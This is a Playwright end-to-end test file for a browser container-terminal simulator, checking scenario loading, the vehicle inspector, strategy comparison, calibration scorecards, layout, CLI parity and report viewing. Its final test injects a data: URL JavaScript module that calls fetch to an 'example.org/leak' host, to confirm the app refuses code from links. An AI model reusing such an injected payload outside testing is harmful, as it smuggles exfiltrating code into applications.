import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { PNG } from 'pngjs';

const ARTIFACTS = 'test/e2e/artifacts';
mkdirSync(ARTIFACTS, { recursive: true });

/** Opens the app, collecting console errors and uncaught exceptions, and waits for its first frame. */
async function open(page: Page, query = '', readyTimeoutMs = 90_000): Promise<string[]> {
  const errors: string[] = [];
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(`/${query}`);
  await page.waitForFunction(() => window.zhigang?.ready === true && window.zhigang.timeS() > 0, null, { timeout: readyTimeoutMs });
  return errors;
}

/** Variance of the canvas's luminance: a blank or single-colour canvas has (almost) none. */
async function canvasVariance(page: Page): Promise<number> {
  const png = PNG.sync.read(await page.locator('#view').screenshot());
  let sum = 0;
  let sumSq = 0;
  const n = png.width * png.height;
  for (let i = 0; i < png.data.length; i += 4) {
    const y = 0.2126 * png.data[i] + 0.7152 * png.data[i + 1] + 0.0722 * png.data[i + 2];
    sum += y;
    sumSq += y * y;
  }
  return sumSq / n - (sum / n) ** 2;
}

const simTime = (page: Page) => page.evaluate(() => window.zhigang!.timeS());

/** Pixels of two same-sized PNGs that differ noticeably in any channel. */
function changedPixels(a: Buffer, b: Buffer): number {
  const [pa, pb] = [PNG.sync.read(a), PNG.sync.read(b)];
  let n = 0;
  for (let i = 0; i < pa.data.length; i += 4) {
    if (Math.abs(pa.data[i] - pb.data[i]) + Math.abs(pa.data[i + 1] - pb.data[i + 1]) + Math.abs(pa.data[i + 2] - pb.data[i + 2]) > 30) n++;
  }
  return n;
}

test('the default scenario loads with no console errors, draws the terminal and runs', async ({ page }) => {
  test.setTimeout(900_000); // the skip simulates tianjin's five-day warm-up: minutes on a slow machine
  const errors = await open(page);
  // the bundled scenario named in the app's language (Chinese by default)
  await expect(page.locator('#scenario-line')).toContainText('天津港北疆港区');
  await expect(page.locator('#status')).toHaveText('');
  // simulated time advances: waited for, however slow the machine (no wall-time assumption)
  const t0 = await simTime(page);
  await page.waitForFunction((t) => window.zhigang!.timeS() > t, t0, { timeout: 120_000 });
  expect(await canvasVariance(page)).toBeGreaterThan(100);
  const stats = await page.evaluate(() => window.zhigang!.renderStats());
  expect(stats.drawCalls).toBeGreaterThan(5);
  expect(stats.drawCalls).toBeLessThanOrEqual(60);
  // the tianjin yard starts 40% full: over 20,000 boxes drawn
  expect(await page.evaluate(() => window.zhigang!.yardBoxes())).toBeGreaterThan(20_000);
  await expect(page.locator('#clock-time')).toHaveText(/^\d{2}:\d{2}:\d{2}$/);
  // the warm-up note offers a jump to its end, where the KPIs start counting
  await expect(page.locator('#warm-up')).toBeVisible();
  await page.locator('#skip-warm-up').click();
  // tianjin's warm-up is five days: simulated in the worker, however long that takes here
  await page.waitForFunction(() => window.zhigang!.timeS() >= 5 * 86400, undefined, { timeout: 600_000 });
  await expect(page.locator('#warm-up')).toBeHidden();
  // half an hour past the warm-up every working crane has made moves to count (waited for in simulated
  // time: with vehicles sharing the road the worker simulates more slowly, and a busy machine more so)
  await page.waitForFunction(() => window.zhigang!.timeS() >= 5 * 86400 + 1800, undefined, { timeout: 600_000 });
  // the tiles say they are collecting until 50 moves are counted (a few cranes work at the warm-up's end)
  await expect(page.locator('#tiles [data-kpi="craneRate"] .number')).toHaveText(/^\d+\.\d$/, { timeout: 120_000 });
  await page.screenshot({ path: `${ARTIFACTS}/main-view.png` });
  // the language switch relabels the page
  await expect(page.locator('#play')).toHaveText('暂停');
  await page.locator('#lang').click();
  await expect(page.locator('#play')).toHaveText('Pause');
  await expect(page).toHaveURL(/lang=en/);

  // traffic: the congestion heat over the lanes, off until switched on, drawn when it is; looked at
  // in a busy hour (day 6 at noon: a large call at berth under six cranes), so that ARTs queue: at the
  // warm-up's end only a few cranes work, and the seeded schedule may leave the road empty
  await page.locator('#jump').fill('132h');
  await page.locator('#jump').press('Enter');
  await page.waitForFunction(() => window.zhigang!.timeS() >= 132 * 3600 + 900, undefined, { timeout: 600_000 });
  await page.setViewportSize({ width: 1600, height: 900 });
  await page.locator('#play').click(); // paused: the picture holds still while the layer is compared
  await expect(page.locator('#play')).toHaveText('Play');
  expect(await page.evaluate(() => window.zhigang!.congestion())).toMatchObject({ shown: false });
  await expect(page.locator('#congestion-key')).toBeHidden();
  await expect(page.locator('#view-legend')).toContainText('Stopped in traffic');
  // the terminal as drawn, clear of the header and the side panel (whose figures may still change)
  const terminal = () => page.screenshot({ clip: { x: 0, y: 130, width: 1600 - 420, height: 900 - 200 } });
  // the last frame asked for before the pause has come in: two pictures in a row are the same
  let before = await terminal();
  await expect.poll(async () => changedPixels(before, (before = await terminal()))).toBe(0);
  await page.locator('#congestion').check();
  await expect(page.locator('#congestion-key')).toBeVisible();
  await page.waitForFunction(() => window.zhigang!.congestion().shown);
  const heat = await page.evaluate(() => window.zhigang!.congestion());
  expect(heat.pieces).toBeGreaterThan(1000); // every cell of lane and junction zone of tianjin
  expect(heat.warm).toBeGreaterThan(0); // with 92 ARTs at work, some of them queue
  // thousands of pixels of lane turn to the heat's colours
  await expect.poll(async () => changedPixels(before, await terminal())).toBeGreaterThan(5000);
  // where ARTs waited longest since the warm-up, with hours waited
  await expect(page.locator('#traffic-zones')).toBeVisible();
  await expect(page.locator('#traffic-zones tbody tr').first().locator('td').last()).toHaveText(/^\d+\.\d\d$/);
  expect(await page.locator('#traffic-zones tbody tr').count()).toBeLessThanOrEqual(5);
  await page.screenshot({ path: `${ARTIFACTS}/traffic-view.png` });
  // switched off, the lanes are as before
  await page.locator('#congestion').uncheck();
  await page.waitForFunction(() => !window.zhigang!.congestion().shown);
  await expect.poll(async () => changedPixels(before, await terminal())).toBe(0);
  expect(errors).toEqual([]);
});

test('clicking a vehicle opens its inspector with its state, job and charge, and its trail', async ({ page }) => {
  const errors = await open(page, '?scenario=demo-small&speed=60');
  // a time it cannot read is said in the status line, and cleared by the next valid one
  await page.locator('#jump').fill('soon');
  await page.locator('#jump').press('Enter');
  await expect(page.locator('#status')).toHaveClass(/error/);
  await page.locator('#jump').fill('3h');
  await page.locator('#jump').press('Enter');
  await expect(page.locator('#status')).not.toHaveClass(/error/);
  await expect(page.locator('#status')).toHaveText('');
  await page.waitForFunction(() => window.zhigang!.timeS() >= 3 * 3600);
  await page.locator('#play').click(); // pause, so the vehicle stays where it is clicked
  const index = await page.evaluate(() => window.zhigang!.visibleVehicle());
  expect(index).toBeGreaterThanOrEqual(0);
  const at = await page.evaluate((i) => window.zhigang!.screenPositionOf({ kind: 'vehicle', index: i }), index);
  await page.mouse.click(at!.x, at!.y);
  const inspector = page.locator('#inspector');
  await expect(inspector).toBeVisible();
  await expect(inspector).toHaveAttribute('data-kind', 'vehicle');
  await expect(inspector.locator('[data-field="inspector.charge"]')).toHaveText(/\d+% \(\d/);
  // three hours in, every vehicle has driven: its last 30 minutes are drawn as a trail
  await page.waitForFunction(() => window.zhigang!.trailPoints() > 2);
  await inspector.locator('#follow').click();
  await expect(inspector.locator('#follow')).toHaveClass(/active/);
  await page.screenshot({ path: `${ARTIFACTS}/inspector.png` });
  expect(errors).toEqual([]);
});

test('compare mode runs two strategies side by side with the same seed', async ({ page }) => {
  const errors = await open(page, '?scenario=demo-small&compare=fcfs,dual-cycle&speed=3600&warmup=0');
  await page.locator('[data-tab="compare"]').click();
  await expect(page.locator('#compare-switch button')).toHaveCount(2);
  // a column per strategy, a row per KPI; the crane rates are figures, not dashes
  await expect(page.locator('#compare-table thead th[data-strategy]')).toHaveCount(2);
  await expect(page.locator('#compare-table tbody tr[data-kpi="craneRate"] td')).toHaveCount(2);
  await expect(page.locator('#compare-table tbody tr[data-kpi="craneRate"] td').first()).toHaveText(/^\d+\.\d\d$/);
  await expect(page.locator('#compare-table tbody tr[data-kpi="craneRate"] td').last()).toHaveText(/^\d+\.\d\d$/);
  // each KPI with its unit
  await expect(page.locator('#compare-table tbody tr[data-kpi="craneRate"] th')).toContainText('(');
  await expect(page.locator('#compare-table tbody tr[data-kpi="energyPerMoveKWh"] th .unit')).toHaveCount(1);
  await expect(page.locator('#compare-table tbody tr[data-kpi="qcWaitShare"] th .unit')).toHaveCount(0);
  await expect(page.locator('#compare-rate path.series')).toHaveCount(2);
  await page.locator('#compare-switch button').nth(1).click();
  await expect(page.locator('#compare-switch button').nth(1)).toHaveClass(/active/);
  await page.screenshot({ path: `${ARTIFACTS}/compare-view.png` });
  // a pick of one strategy is said on this tab, which stays open; a good pick clears it
  const boxes = page.locator('#compare-strategies input[type="checkbox"]');
  for (const box of await boxes.all()) await box.uncheck();
  await boxes.first().check();
  await page.locator('#compare-start').click();
  await expect(page.locator('#compare-errors li')).toHaveText(/2.*4/);
  await expect(page.locator('#tab-compare')).toBeVisible();
  await expect(page.locator('#tab-scenario')).toBeHidden();
  await boxes.nth(1).check();
  await page.locator('#compare-start').click();
  await expect(page.locator('#compare-errors li')).toHaveCount(0);
  expect(errors).toEqual([]);
});

test('a comparison starts where the warm-up ends, its table filled from the start', async ({ page }) => {
  const errors = await open(page, '?scenario=demo-small&compare=fcfs,dual-cycle&warmup=2h&speed=60');
  expect(await simTime(page)).toBeGreaterThanOrEqual(2 * 3600);
  await page.locator('[data-tab="compare"]').click();
  await expect(page.locator('#compare-table tbody tr[data-kpi="craneRate"] td').first()).toHaveText(/^\d+\.\d\d$/);
  expect(errors).toEqual([]);
});

test('the calibration tab scores the run against tianjin\'s published figures, live and over seeds 1–5 in workers', async ({ page }) => {
  test.setTimeout(900_000); // five short tianjin runs in browser workers: minutes on a slow machine
  const errors = await open(page, '?duration=2d&warmup=6h&speed=3600&lang=en');
  await page.locator('[data-tab="calibration"]').click();
  await expect(page.locator('#scorecard-table tbody tr[data-target]')).toHaveCount(8);
  await expect(page.locator('#scorecard-table tr[data-target="exportRehandles"] th small')).toHaveText('model target, not a published figure');
  // the input line needs no data from the run: the fleet over the cranes, 92 / 12
  await expect(page.locator('#scorecard-table tr[data-target="artsPerCrane"] td.live')).toHaveText('7.7 ARTsPASS');
  // after the warm-up the live crane rate comes in, with its verdict
  await page.waitForFunction(() => window.zhigang!.timeS() > 12 * 3600, undefined, { timeout: 300_000 });
  await expect(page.locator('#scorecard-table tr[data-target="craneRate"] td.live')).toHaveText(/^\d+\.\d moves\/h(PASS|FAIL)$/, { timeout: 60_000 });
  await page.locator('#scorecard-run').click();
  await expect(page.locator('#scorecard-status')).toContainText('Running replications');
  await expect(page.locator('#scorecard-table td.replicated')).toHaveCount(8, { timeout: 800_000 });
  await expect(page.locator('#scorecard-table thead th').last()).toHaveText('Mean ± 95% CI, seeds 1, 2, 3, 4, 5');
  await expect(page.locator('#scorecard-table tr[data-target="craneRate"] td.replicated')).toHaveText(/^\d+\.\d ± \d+\.\d moves\/h(PASS|FAIL)( \*)?$/);
  await expect(page.locator('#scorecard-status')).toHaveText(/^\d of 8 lines pass$/);
  // 中文: the lines by their Chinese names
  await page.locator('#lang').click();
  await expect(page.locator('#scorecard-table tr[data-target="craneRate"] th')).toContainText('岸桥台时效率');
  await page.screenshot({ path: `${ARTIFACTS}/scorecard.png` });
  expect(errors).toEqual([]);
});

test('at 1600 × 900 the header is one row, the scenario form fits the panel, and the view has a legend of its colours that follows the colourings and the language', async ({ page }) => {
  await page.setViewportSize({ width: 1600, height: 900 });
  const errors = await open(page, '?scenario=demo-small&lang=en');
  // one row of controls, and the language button on one line (it broke onto two)
  expect((await page.locator('#controls').boundingBox())!.height).toBeLessThan(48);
  expect((await page.locator('#lang').boundingBox())!.height).toBeLessThan(36);
  const legend = page.locator('#view-legend');
  await expect(legend).toBeVisible();
  await expect(legend).toContainText('Waiting at quay');
  await expect(legend).toContainText('one colour per vessel call');
  await page.locator('#box-colouring').selectOption('flow');
  await expect(legend).toContainText('Transshipment');
  await page.locator('#vehicle-colouring').selectOption('charge');
  await expect(legend).toContainText('Low charge');
  await page.locator('#lang').click();
  await expect(legend).toContainText('中转');
  await expect(legend).toContainText('低电量');
  await page.screenshot({ path: `${ARTIFACTS}/header-legend.png` });
  // the scenario form stays inside the side panel (its fields stuck out of it)
  await page.locator('[data-tab="scenario"]').click();
  const overflow = await page.evaluate(() => {
    const side = document.querySelector('#side')!.getBoundingClientRect();
    return [...document.querySelectorAll('#scenario-form input, #scenario-form select, #scenario-form button')].map((e) => e.getBoundingClientRect().right - side.right).filter((d) => d > 0.5);
  });
  expect(overflow).toEqual([]);
  expect(errors).toEqual([]);
});

test('a kiosk link shows the terminal and its controls without the side panel', async ({ page }) => {
  const errors = await open(page, '?scenario=demo-small&kiosk');
  await expect(page.locator('#side')).toBeHidden();
  await expect(page.locator('#controls')).toBeVisible();
  await expect(page.locator('#view-legend')).toBeVisible();
  expect(page.url()).toContain('kiosk');
  expect(errors).toEqual([]);
});

test('a scenario without targets has no calibration tab', async ({ page }) => {
  await open(page, '?scenario=demo-small');
  await expect(page.locator('[data-tab="calibration"]')).toBeHidden();
});

test('a form with two wrong figures lists both, a number field holding no number among them', async ({ page }) => {
  await open(page, '?scenario=demo-small&lang=en');
  await page.locator('[data-tab="scenario"]').click();
  await page.locator('#scenario-form input[name="fleet"]').fill('');
  await page.locator('#scenario-form input[name="fleet"]').pressSequentially('1e');
  await page.locator('#scenario-form input[name="cranes"]').fill('0');
  await page.locator('#scenario-form button[type="submit"]').click();
  await expect(page.locator('#scenario-errors li')).toHaveCount(2);
  await expect(page.locator('#scenario-errors li').first()).toContainText('≥ 1');
});

test('a broken upload shows its error with the JSON path', async ({ page }) => {
  await open(page, '?scenario=demo-small');
  await page.locator('[data-tab="scenario"]').click();
  const broken = JSON.stringify({ name: 'broken', layout: 'demo-small.layout.geojson', vehicles: { count: -3 } });
  await page.locator('#upload-scenario').setInputFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from(broken) });
  await expect(page.locator('#scenario-errors li').first()).toContainText('broken.json: $.');
  await expect(page.locator('#scenario-errors')).toContainText('broken.json: $.vehicles.count: expected');
  // the scenario still running stays selected, in the panel and the link
  await expect(page.locator('#scenario-select')).toHaveValue('demo-small');
  expect(new URL(page.url()).searchParams.get('scenario')).toBe('demo-small');
});

test('demo mode starts full-window with its tour and large captions', async ({ page }) => {
  test.setTimeout(900_000); // the demo first simulates tianjin's five-day warm-up
  const errors = await open(page, '?demo', 600_000); // ready once the warm-up is simulated
  await expect(page.locator('body')).toHaveClass(/demo/);
  await expect(page.locator('#side')).toBeHidden();
  await expect(page.locator('#captions')).toBeVisible();
  const t0 = await simTime(page);
  await page.waitForFunction((t) => window.zhigang!.timeS() > t, t0, { timeout: 120_000 });
  // the demo starts where the warm-up ends: the captions show live figures, not dashes
  expect(t0).toBeGreaterThanOrEqual(5 * 86400);
  await expect(page.locator('#captions [data-kpi="craneRate"] .number')).toHaveText(/^\d+\.\d$/);
  await page.screenshot({ path: `${ARTIFACTS}/demo-mode.png` });
  expect(errors).toEqual([]);
});

test('the KPIs after 6 simulated hours equal the CLI\'s for the same seed, at any speed', async ({ page }) => {
  const cli = JSON.parse(execFileSync('node', ['bin/zhigang.mjs', 'run', 'scenarios/demo-small.json', '--seed', '3', '--duration', '6h', '--json'], { encoding: 'utf8' }));
  for (const speed of ['max', '3600']) {
    await open(page, `?scenario=demo-small&seed=3&duration=6h&speed=${speed}`);
    await page.waitForFunction(() => window.zhigang!.finished() && window.zhigang!.results()?.finished === true && window.zhigang!.results()?.timeS === 21600, null, { timeout: 120_000 });
    // the final figures come from the worker's run() once the end is reached
    await page.waitForFunction(() => window.zhigang!.app.shownRun!.kpis$.value !== null && 'provenance' in window.zhigang!.app.shownRun!.kpis$.value!);
    const shown = await page.evaluate(() => window.zhigang!.results());
    expect(shown!.kpis).toEqual(cli.kpis);
    expect(shown!.perCrane).toEqual(cli.perCrane);
    await expect(page.locator('#tiles')).toContainText(cli.kpis.craneRate.toFixed(1));
  }
});

test('a results folder of zhigang batch opens as the report zhigang report writes', async ({ page }) => {
  // a tiny experiment on demo-small, run and reported by the CLI
  const dir = mkdtempSync(join(tmpdir(), 'zhigang-e2e-results-'));
  const experiment = {
    name: 'Browser report check',
    scenario: relative(dir, resolve('scenarios/demo-small.json')),
    seed: 5,
    replications: 2,
    durationS: 4 * 3600,
    warmUpS: 3600,
    factors: [
      { name: 'strategy', path: 'dispatch.strategy', values: ['fcfs', 'dual-cycle'] },
      { name: 'fleet', path: 'vehicles.count', values: [6, 12] },
    ],
    baseline: { strategy: 'fcfs' },
  };
  writeFileSync(join(dir, 'experiment.json'), JSON.stringify(experiment));
  const out = join(dir, 'results');
  const cli = (...args: string[]) => execFileSync('node', ['bin/zhigang.mjs', ...args], { encoding: 'utf8' });
  cli('batch', join(dir, 'experiment.json'), '--out', out, '--workers', '1');
  cli('report', out, '--out', join(dir, 'report.html'));
  const expected = readFileSync(join(dir, 'report.html'), 'utf8');

  const errors = await open(page, '?scenario=demo-small&lang=en');
  await page.locator('[data-tab="compare"]').click();
  // runs.jsonl alone is not enough: the plan names the factors and the baseline
  await page.locator('#results-files').setInputFiles([join(out, 'runs.jsonl')]);
  await expect(page.locator('#results-errors')).toContainText('experiment.json missing');
  await page.locator('#results-files').setInputFiles([join(out, 'experiment.json'), join(out, 'runs.jsonl')]);
  await expect(page.locator('#report')).toBeVisible();
  await expect(page.locator('#report-title')).toHaveText('Browser report check · 8 of 8 replications');
  expect(await page.locator('#report-frame').getAttribute('srcdoc')).toBe(expected);
  // the charts inside: crane rate against fleet size, one line per strategy
  const report = page.frameLocator('#report-frame');
  await expect(report.locator('h1')).toHaveText('Browser report check');
  await expect(report.locator('figure svg').first()).toBeVisible();
  await page.screenshot({ path: `${ARTIFACTS}/results-report.png` });
  await page.locator('#report-close').click();
  await expect(page.locator('#report')).toBeHidden();
  expect(errors).toEqual([]);
});

test('a link or a scenario file never makes the app run code; a module picked as a file does', async ({ page }) => {
  const outside: string[] = [];
  page.on('request', (r) => !r.url().startsWith('http://localhost') && !r.url().startsWith('blob:') && !r.url().startsWith('data:,') && outside.push(r.url()));
  // a strategy named by URL: refused with a line, the scenario's own strategy runs instead
  const payload = encodeURIComponent('data:text/javascript,fetch("https://example.org/leak");export default {name:"evil",decide(){return []}}');
  const errors = await open(page, `?scenario=demo-small&lang=en&strategy=${payload}`);
  await expect(page.locator('#status')).toContainText('?strategy=data:text/javascript');
  await expect(page.locator('#status')).toContainText('a strategy module runs only from a file you pick in the scenario panel');
  await expect(page.locator('#scenario-line')).toContainText('First come, first served');
  // a scenario naming a module: refused in the panel, with its JSON path
  await page.locator('[data-tab="scenario"]').click();
  const scenario = JSON.parse(readFileSync('scenarios/demo-small.json', 'utf8'));
  scenario.dispatch.strategy = './mine.js';
  await page.locator('#upload-scenario').setInputFiles({ name: 'with-module.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(scenario)) });
  await expect(page.locator('#scenario-errors')).toContainText('with-module.json: $.dispatch.strategy: names a strategy module ("./mine.js"); the app runs code only from a file you pick');
  // a module the user picks: it runs, in the worker
  await page.locator('#scenario-select').selectOption('demo-small');
  const mine = `export default { name: 'picked-by-hand', decide(s) { const free = s.vehicles.filter((v) => v.free); return s.jobs.slice(0, free.length).map((j, k) => ({ vehicle: free[k].index, job: j.id })); } };`;
  await page.locator('#strategy-module').setInputFiles({ name: 'mine.js', mimeType: 'text/javascript', buffer: Buffer.from(mine) });
  await expect(page.locator('#scenario-line')).toContainText('picked-by-hand');
  await page.waitForFunction((t0) => window.zhigang!.timeS() > t0, await simTime(page));
  expect(page.url()).not.toContain('mine.js'); // a link never carries code
  expect(outside).toEqual([]);
  expect(errors).toEqual([]);
});
